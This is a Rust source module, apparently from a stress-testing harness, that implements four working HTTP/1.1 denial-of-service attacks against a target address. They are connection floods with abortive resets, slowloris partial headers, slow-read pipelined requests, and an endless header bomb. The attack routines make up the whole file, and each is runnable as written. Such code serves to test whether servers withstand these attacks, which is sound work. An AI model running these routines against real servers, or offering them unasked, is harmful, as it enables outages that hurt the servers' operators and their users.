//! Attacks in HTTP/1.1, or none at all.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use super::{Siege, pause};

/// Connections of an attack that holds them.
const HELD: usize = 500;
/// Connections opened in a row.
const ROW: usize = 20;
/// For a write that nobody takes.
const PATIENCE: Duration = Duration::from_millis(100);
/// The head that is never finished.
const BEGIN: &[u8] = b"GET / HTTP/1.1\r\nHost: attack.test\r\n";

fn connect(target: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&target, PATIENCE).ok()?;
    stream.set_write_timeout(Some(PATIENCE)).ok()?;
    stream.set_nodelay(true).ok()?;
    // A FIN would leave a local port waiting, and there are not enough of them.
    rustix::net::sockopt::set_socket_linger(&stream, Some(Duration::ZERO)).ok()?;
    Some(stream)
}

/// Connections that come and go, and say nothing.
pub(super) fn connections(target: SocketAddr, siege: &Siege) {
    while siege.goes_on() {
        let row = (0..ROW).filter_map(|_| connect(target)).count();
        siege.did(row as u64);
        pause();
    }
}

/// Heads that grow by one byte now and then and never end.
pub(super) fn slowloris(target: SocketAddr, siege: &Siege) {
    let mut held: Vec<TcpStream> = Vec::new();
    let mut field = b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n"
        .iter()
        .cycle();
    while siege.goes_on() {
        for _ in 0..ROW.min(HELD - held.len()) {
            held.extend(connect(target).filter(|mut it| it.write_all(BEGIN).is_ok()));
        }
        let Some(byte) = field.next() else { return };
        held.retain_mut(|stream| stream.write_all(&[*byte]).is_ok());
        siege.did(held.len() as u64);
        std::thread::sleep(PATIENCE);
    }
}

/// Requests in a row on connections that are never read from.
pub(super) fn slow_read(target: SocketAddr, siege: &Siege) {
    let request = [BEGIN, b"\r\n"].concat().repeat(ROW);
    let mut held: Vec<TcpStream> = Vec::new();
    while siege.goes_on() {
        if held.len() < HELD / 2
            && let Some(mut stream) = connect(target)
            && stream.write_all(&request).is_ok()
        {
            siege.did(ROW as u64);
            held.push(stream);
        }
        pause();
    }
}

/// Heads without end.
pub(super) fn header_bomb(target: SocketAddr, siege: &Siege) {
    let field = format!("X-Bomb: {}\r\n", "b".repeat(1014)).repeat(ROW);
    while siege.goes_on() {
        let Some(mut stream) = connect(target) else {
            pause();
            continue;
        };
        let mut goes_on = stream.write_all(BEGIN).is_ok();
        while goes_on && siege.goes_on() {
            goes_on = stream.write_all(field.as_bytes()).is_ok();
            siege.did(ROW as u64);
            pause();
        }
    }
}
